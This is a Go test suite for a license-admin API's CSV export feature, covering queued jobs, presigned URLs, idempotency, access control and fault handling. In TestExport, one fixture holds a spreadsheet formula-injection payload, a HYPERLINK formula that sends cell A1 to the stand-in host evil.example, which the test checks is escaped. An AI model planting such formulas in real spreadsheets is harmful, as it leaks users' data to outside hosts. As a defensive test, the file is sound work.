package api_test

import (
	"encoding/csv"
	"errors"
	"io"
	"net/http"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/service/dynamodb"

	"licenseadmin/shared/apitest"
	"licenseadmin/shared/licadmin"
	"licenseadmin/shared/logs"
)

// exportView is the body of GET /v1/exports/{exportId}.
type exportView struct {
	ExportID string  `json:"exportId"`
	Status   string  `json:"status"`
	URL      *string `json:"url"`
	Rows     *int64  `json:"rows"`
	Error    *string `json:"error"`
}

func (f *usageFixture) startExport(t *testing.T, userID string, body any, headers map[string]string) string {
	t.Helper()
	r := f.export(withHeaders(userReq(routeExport, f.admin, userID, body), headers))
	r.Want(t, http.StatusAccepted)
	wantKeys(t, []byte(r.Body), "exportId")
	var x struct{ ExportID string }
	r.Decode(t, &x)
	if loc := r.Headers["Location"]; loc != "/v1/exports/"+x.ExportID {
		t.Fatalf("Location %q, want /v1/exports/%s", loc, x.ExportID)
	}
	return x.ExportID
}

func (f *usageFixture) exportStatus(t *testing.T, id string) exportView {
	t.Helper()
	r := f.getExport(apitest.Request{Route: routeGetExport, Params: map[string]string{"exportId": id}, Email: f.admin})
	r.Want(t, http.StatusOK)
	var v exportView
	r.Decode(t, &v)
	return v
}

// download GETs a presigned URL and returns the CSV records, checking the
// UTF-8 BOM and the attachment headers.
func download(t *testing.T, url string) [][]string {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET %s: %d %s", url, resp.StatusCode, body)
	}
	if cd := resp.Header.Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment") {
		t.Errorf("Content-Disposition %q, want an attachment", cd)
	}
	text, ok := strings.CutPrefix(string(body), "\uFEFF")
	if !ok {
		t.Fatalf("the CSV does not start with a UTF-8 BOM: %q", body[:min(len(body), 20)])
	}
	recs, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatalf("parse CSV %q: %v", text, err)
	}
	return recs
}

// TestExport ensures an export runs through the queue into a CSV in S3
// with the range's entries newest first, every formula-like cell
// neutralised, handed out through a presigned URL when done; and that the
// request is idempotent.
func TestExport(t *testing.T) {
	f := newUsageFixture(t)
	q := f.UseExports()
	f.assign(f.admin, f.ada, "eco").Want(t, http.StatusOK)
	now := time.Now().UTC()
	old := event(f.acct, f.adaEmail, licadmin.EventSent, now.Add(-20*24*time.Hour))
	evil := event(f.acct, f.adaEmail, licadmin.EventSent, now.Add(-2*time.Hour))
	evil.MessageRef = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	evil.Recipients = []string{"@SUM(1+1)", "+33 6 12 34 56 78", "-2+3", "plain@example.org"}
	evil.Bytes = 7
	opened := event(f.acct, f.adaEmail, licadmin.EventOpened, now.Add(-time.Hour))
	ingest(t, f.Env, old, evil, opened, event(f.acct, f.bobEmail, licadmin.EventSent, now.Add(-time.Hour)))

	id := f.startExport(t, f.ada, map[string]string{"from": now.Add(-7 * 24 * time.Hour).Format(time.DateOnly), "format": "csv"}, nil)
	if v := f.exportStatus(t, id); v.Status != "running" || v.URL != nil || v.Rows != nil {
		t.Fatalf("before the job ran: %+v, want running without url", v)
	}
	if failed := f.RunExports(t, q); len(failed) != 0 {
		t.Fatalf("export job failed: %v", failed)
	}
	v := f.exportStatus(t, id)
	if v.Status != "done" || v.URL == nil || v.Rows == nil || *v.Rows != 2 {
		t.Fatalf("after the job: %+v, want done with a url and 2 rows", v)
	}
	recs := download(t, *v.URL)
	want := [][]string{
		logs.CSVHeader,
		{opened.At, "opened", opened.MessageRef, "client@example.org", "1000", "203.0.113.5", opened.EventID},
		{evil.At, "sent", `'=HYPERLINK("http://evil.example/?"&A1,"click")`, "'@SUM(1+1); +33 6 12 34 56 78; -2+3; plain@example.org", "7", "203.0.113.5", evil.EventID},
	}
	if len(recs) != len(want) {
		t.Fatalf("CSV %q, want %q", recs, want)
	}
	for i := range want {
		if i > 0 {
			// The CSV writes times as the entries have them.
			at, _ := time.Parse(time.RFC3339Nano, want[i][0])
			want[i][0] = at.UTC().Format(time.RFC3339Nano)
		}
		if !slices.Equal(recs[i], want[i]) {
			t.Fatalf("CSV line %d %q, want %q", i+1, recs[i], want[i])
		}
	}

	// A job delivered again changes nothing.
	q.Send(t.Context(), []byte(`{"exportId":"`+id+`"}`))
	if failed := f.RunExports(t, q); len(failed) != 0 {
		t.Fatalf("redelivered job failed: %v", failed)
	}
	if again := f.exportStatus(t, id); again.Status != "done" || *again.Rows != 2 {
		t.Fatalf("after a redelivery: %+v", again)
	}

	// Idempotency: a retry returns the first export and queues nothing.
	key := map[string]string{"Idempotency-Key": "export-1"}
	first := f.startExport(t, f.ada, nil, key)
	if again := f.startExport(t, f.ada, nil, key); again != first || q.Len() != 1 {
		t.Fatalf("retry answered %s (first %s) and queued %d jobs, want the same export and 1 job", again, first, q.Len())
	}
	f.export(withHeaders(userReq(routeExport, f.admin, f.ada, map[string]string{"type": "sent"}), key)).
		WantProblem(t, http.StatusUnprocessableEntity, licadmin.EIDEMREUSED)

	// Bad requests.
	for _, body := range []any{
		map[string]string{"format": "xlsx"}, map[string]string{"from": "soon"}, map[string]string{"type": "clicked"},
		map[string]any{"from": 1}, `{"from":"2026-01-01","extra":true}`, "{",
	} {
		f.export(userReq(routeExport, f.admin, f.ada, body)).WantProblem(t, http.StatusBadRequest, licadmin.EINVALID)
	}
	f.getExport(apitest.Request{Route: routeGetExport, Params: map[string]string{"exportId": unknownID}, Email: f.admin}).
		WantProblem(t, http.StatusNotFound, licadmin.ENOTFOUND)
}

// TestExportOfDeletedLogs ensures an export never hands out logs that a
// removal made unreadable: a done export answers failed without a URL
// once the user's log generation changed, and a job that runs after the
// change fails the export.
func TestExportOfDeletedLogs(t *testing.T) {
	f := newUsageFixture(t)
	q := f.UseExports()
	f.assign(f.admin, f.ada, "eco").Want(t, http.StatusOK)
	f.someEvents(t, f.adaEmail, 2)
	done := f.startExport(t, f.ada, nil, nil)
	f.RunExports(t, q)
	if v := f.exportStatus(t, done); v.Status != "done" {
		t.Fatalf("export %+v, want done", v)
	}
	pending := f.startExport(t, f.ada, nil, nil)
	f.h.remove(userReq(routeRemove, f.admin, f.ada, nil)).Want(t, http.StatusOK)
	if v := f.exportStatus(t, done); v.Status != "failed" || v.URL != nil || v.Error == nil {
		t.Fatalf("done export after the removal: %+v, want failed without url", v)
	}
	if failed := f.RunExports(t, q); len(failed) != 0 {
		t.Fatalf("job failed: %v", failed)
	}
	if v := f.exportStatus(t, pending); v.Status != "failed" || v.URL != nil {
		t.Fatalf("export run after the removal: %+v, want failed", v)
	}
}

// TestExportFailures ensures an export whose job could not be queued, or
// that did not finish in time, answers failed rather than running forever.
func TestExportFailures(t *testing.T) {
	f := newUsageFixture(t)
	q := f.UseExports()
	q.Err = errors.New("queue down")
	id := f.startExport(t, f.ada, nil, nil)
	if v := f.exportStatus(t, id); v.Status != "failed" || v.Error == nil {
		t.Fatalf("export whose job was not queued: %+v, want failed", v)
	}
	q.Err = nil
	lost := f.startExport(t, f.ada, nil, nil)
	f.App.Exports.Now = func() time.Time { return time.Now().Add(logs.ExportDeadline + time.Minute) }
	if v := f.exportStatus(t, lost); v.Status != "failed" || v.Error == nil {
		t.Fatalf("export past its deadline: %+v, want failed", v)
	}
}

// TestExportMine ensures any user, admin or not, exports its own journal
// (and nobody else's), that the export answers the user who asked and
// nobody else (another user of the account, an admin, another account:
// 404 as an unknown id), that an admin's export of a user's logs answers
// that admin only, and that the request is idempotent and validated.
func TestExportMine(t *testing.T) {
	f := newUsageFixture(t)
	q := f.UseExports()
	now := time.Now().UTC()
	ingest(t, f.Env, event(f.acct, f.adaEmail, licadmin.EventSent, now.Add(-2*time.Hour)),
		event(f.acct, f.adaEmail, licadmin.EventOpened, now.Add(-time.Hour)),
		event(f.acct, f.bobEmail, licadmin.EventSent, now.Add(-time.Hour)))
	start := func(email string, body any, headers map[string]string) *apitest.Response {
		return f.exportMine(withHeaders(apitest.Request{Route: routeMyExport, Email: email, Body: body}, headers))
	}
	get := func(email, id string) *apitest.Response {
		return f.getExport(apitest.Request{Route: routeGetExport, Params: map[string]string{"exportId": id}, Email: email})
	}
	r := start(f.adaEmail, map[string]string{"from": now.Add(-24 * time.Hour).Format(time.DateOnly)}, nil)
	r.Want(t, http.StatusAccepted)
	var x struct{ ExportID string }
	r.Decode(t, &x)
	if loc := r.Headers["Location"]; loc != "/v1/exports/"+x.ExportID {
		t.Fatalf("Location %q", loc)
	}
	if failed := f.RunExports(t, q); len(failed) != 0 {
		t.Fatalf("export job failed: %v", failed)
	}
	r = get(f.adaEmail, x.ExportID)
	r.Want(t, http.StatusOK)
	var v exportView
	r.Decode(t, &v)
	if v.Status != "done" || v.URL == nil || v.Rows == nil || *v.Rows != 2 {
		t.Fatalf("ada's own export: %+v, want done with her 2 entries", v)
	}
	if recs := download(t, *v.URL); len(recs) != 3 {
		t.Fatalf("ada's own export has %d lines, want the header and her 2 entries: %q", len(recs), recs)
	}
	// Nobody else reads it: another user, the account's admin, another
	// account's admin, all as for an unknown id.
	for _, who := range []string{f.bobEmail, f.admin, f.other} {
		wantSameAnswer(t, get(who, x.ExportID), get(who, unknownID), x.ExportID, unknownID)
		get(who, x.ExportID).WantProblem(t, http.StatusNotFound, licadmin.ENOTFOUND)
	}
	get("stranger@nowhere.test", x.ExportID).WantProblem(t, http.StatusForbidden, licadmin.EFORBIDDEN)
	get("", x.ExportID).WantProblem(t, http.StatusUnauthorized, licadmin.EUNAUTHORIZED)

	// An admin exports its own journal too; an admin's export of ada's
	// logs is not ada's to read.
	start(f.admin, nil, nil).Want(t, http.StatusAccepted)
	adminsOfAda := f.startExport(t, f.ada, nil, nil)
	get(f.adaEmail, adminsOfAda).WantProblem(t, http.StatusNotFound, licadmin.ENOTFOUND)
	get(f.admin, adminsOfAda).Want(t, http.StatusOK)

	// Idempotency.
	key := map[string]string{"Idempotency-Key": "mine-1"}
	first := start(f.bobEmail, nil, key)
	first.Want(t, http.StatusAccepted)
	again := start(f.bobEmail, nil, key)
	if again.Body != first.Body {
		t.Fatalf("retry answered %s, want %s", again.Body, first.Body)
	}
	start(f.bobEmail, map[string]string{"type": "sent"}, key).WantProblem(t, http.StatusUnprocessableEntity, licadmin.EIDEMREUSED)

	// Bad requests, and callers who are no user.
	for _, body := range []any{map[string]string{"format": "xlsx"}, map[string]string{"from": "soon"}, `{"extra":1}`, "{"} {
		start(f.adaEmail, body, nil).WantProblem(t, http.StatusBadRequest, licadmin.EINVALID)
	}
	start("stranger@nowhere.test", nil, nil).WantProblem(t, http.StatusForbidden, licadmin.EFORBIDDEN)
	start("", nil, nil).WantProblem(t, http.StatusUnauthorized, licadmin.EUNAUTHORIZED)
}

// TestExportFaults ensures a failure between an export's two steps leaves
// it consistent: when the export's outcome cannot be recorded after its
// file was written, the job is reported failed and the export still
// answers running, without a URL (the file is never handed out on its
// own); the job delivered again writes the file again, whole, and records
// the outcome once.
func TestExportFaults(t *testing.T) {
	f := newUsageFixture(t)
	q := f.UseExports()
	var failUpdates atomic.Bool
	opt, calls := apitest.Faults(func(op string, _ int) apitest.Fault {
		if failUpdates.Load() && op == "UpdateItem" {
			return apitest.Fail
		}
		return apitest.NoFault
	})
	f.App.Store.DB = dynamodb.New(f.App.DynamoDB.Options(), opt)
	f.assign(f.admin, f.ada, "eco").Want(t, http.StatusOK)
	now := time.Now().UTC()
	ingest(t, f.Env, event(f.acct, f.adaEmail, licadmin.EventSent, now.Add(-3*time.Hour)),
		event(f.acct, f.adaEmail, licadmin.EventOpened, now.Add(-2*time.Hour)), event(f.acct, f.adaEmail, licadmin.EventSigned, now.Add(-time.Hour)))
	id := f.startExport(t, f.ada, nil, nil)
	jobs := q.Take()
	if len(jobs) != 1 {
		t.Fatalf("%d jobs queued, want 1", len(jobs))
	}

	calls.Reset()
	failUpdates.Store(true)
	q.Send(t.Context(), []byte(jobs[0]))
	failed := f.RunExports(t, q)
	failUpdates.Store(false)
	if len(failed) != 1 || calls.Get("UpdateItem") == 0 {
		t.Fatalf("job with its outcome lost: %d failures after %d UpdateItem calls, want the job failed", len(failed), calls.Get("UpdateItem"))
	}
	if n := exportFiles(t, f.Env, f.acct, f.ada); n != 1 {
		t.Fatalf("%d export files after the first attempt, want the one it wrote", n)
	}
	if v := f.exportStatus(t, id); v.Status != "running" || v.URL != nil || v.Rows != nil {
		t.Fatalf("export whose outcome was lost: %+v, want running without a url", v)
	}

	q.Send(t.Context(), []byte(jobs[0])) // SQS delivers the job again
	if failed := f.RunExports(t, q); len(failed) != 0 {
		t.Fatalf("the job delivered again failed: %v", failed)
	}
	v := f.exportStatus(t, id)
	if v.Status != "done" || v.URL == nil || v.Rows == nil || *v.Rows != 3 {
		t.Fatalf("after the job ran again: %+v, want done with 3 rows", v)
	}
	if recs := download(t, *v.URL); len(recs) != 4 {
		t.Fatalf("the CSV has %d lines, want the header and 3 entries once: %q", len(recs), recs)
	}
	if n := exportFiles(t, f.Env, f.acct, f.ada); n != 1 {
		t.Fatalf("%d export files, want 1", n)
	}
}
